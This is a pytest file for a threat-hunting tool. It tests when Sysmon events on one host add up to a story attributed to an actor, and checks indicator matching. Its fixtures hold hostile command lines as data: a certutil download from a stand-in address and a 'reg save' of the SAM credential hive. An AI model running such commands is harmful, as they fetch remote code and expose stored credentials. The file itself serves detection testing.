"""Stories: several distinct techniques with a telling sign make one, single signs never do."""

import json
from pathlib import Path
from typing import Any

from holdfast.app.hunt import prepare
from holdfast.app.settings import Settings
from holdfast.hunt.story import Story
from hunting import event_of, run, write_events

NORTHGATE = Path(__file__).resolve().parents[2] / "examples/northgate/logs"


def stories(events: list[dict[str, Any]], folder: Path) -> dict[str, Story]:
    file = write_events(folder / "events.ndjson", map(event_of, events))
    hunt = prepare([str(file)], Settings(folder / "home"))
    list(hunt.sightings())
    return {story.host: story for story in hunt.teller.stories()}


def at(day: int, host: str, **event: Any) -> dict[str, Any]:
    return {**event, "Computer": host, "@timestamp": f"2026-{1 + day // 28:02d}-{1 + day % 28:02d}T10:00:00Z"}


SIDE_FILE = {"log": "sysmon/11", "Image": "x", "TargetFilename": "C:\\x\\hamcore.se2"}
CERTUTIL = {
    "log": "sysmon/1",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://192.0.2.1/a a",
}
SAM = {"log": "sysmon/1", "Image": "C:\\Windows\\System32\\reg.exe", "CommandLine": "reg save HKLM\\SAM a"}


def test_several_techniques_with_a_telling_sign_are_consistent(tmp_path: Path) -> None:
    """Three techniques on one host within the window, one sign telling: consistent with the actor, never more."""
    told = stories([at(1, "a", **SIDE_FILE), at(2, "a", **CERTUTIL), at(9, "a", **SAM)], tmp_path)
    assert told["a"].verdict == "consistent"
    assert told["a"].actor == "Flax Typhoon"
    assert "consistent with" in told["a"].says()


def test_without_a_telling_sign_nobody_is_named(tmp_path: Path) -> None:
    """Techniques that any intruder uses never name an actor."""
    told = stories([at(1, "a", **CERTUTIL), at(1, "a", **SAM)], tmp_path)
    assert (told["a"].verdict, told["a"].actor) == ("single", "")


def test_signs_on_different_hosts_are_not_added_up(tmp_path: Path) -> None:
    """The same signs spread over hosts are no story of one host."""
    told = stories([at(1, "a", **SIDE_FILE), at(1, "b", **CERTUTIL), at(1, "c", **SAM)], tmp_path)
    assert {story.verdict for story in told.values()} == {"single"}


def test_signs_far_apart_in_time_are_not_added_up(tmp_path: Path) -> None:
    """Signs months apart are not told together."""
    told = stories([at(1, "a", **SIDE_FILE), at(60, "a", **CERTUTIL), at(120, "a", **SAM)], tmp_path)
    assert told["a"].verdict == "single"


def test_the_same_sign_often_is_one_technique(tmp_path: Path) -> None:
    """A hundred repetitions do not make a story."""
    told = stories([at(1 + n % 20, "a", **SIDE_FILE) for n in range(100)], tmp_path)
    assert told["a"].verdict == "single"
    assert told["a"].signs[0].count == 100


def test_northgate(tmp_path: Path) -> None:
    """The planted hosts are told, the near misses are not, the tools are inventory, the broken line is named."""
    hunt = prepare([str(NORTHGATE)], Settings(tmp_path))
    list(hunt.sightings())
    told = {story.host.partition(".")[0]: story.verdict for story in hunt.teller.stories()}
    assert told == {
        "NG-GIS01": "consistent", "NG-FILE01": "consistent", "NG-DC01": "single", "NG-BILL02": "single",
        "NG-WS203": "single",
    }  # fmt: skip
    uses = {(use.tool, use.host.partition(".")[0]): use.new for use in hunt.inventory.uses()}
    assert uses["TeamViewer", "NG-WS114"] is False
    assert uses["AnyDesk", "NG-WS127"] is True
    broken = [problem for status in hunt.statuses() for problem in status.problems]
    assert [problem.origin.line for problem in broken] == [1100]


def test_listed_infrastructure_is_found_in_the_same_pass(tmp_path: Path) -> None:
    """A listed address in its time is high; outside its time it is low; a neighbour is nothing."""
    lines = [
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.247", "@timestamp": "2023-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.247", "@timestamp": "2026-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.246", "@timestamp": "2023-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/22", "QueryName": "vpn.w8510.com", "@timestamp": "2024-02-01T00:00:00Z"}),
        event_of({"log": "sysmon/22", "QueryName": "w8510.com.example.org"}),
    ]
    (tmp_path / "e.ndjson").write_text("\n".join(map(json.dumps, lines)))
    rows = [
        row for row in run([tmp_path / "e.ndjson"], tmp_path / "home") if row["rule"].startswith("indicator-")
    ]
    assert [(row["record"], row["level"]) for row in rows] == [(1, "high"), (2, "low"), (4, "high")]
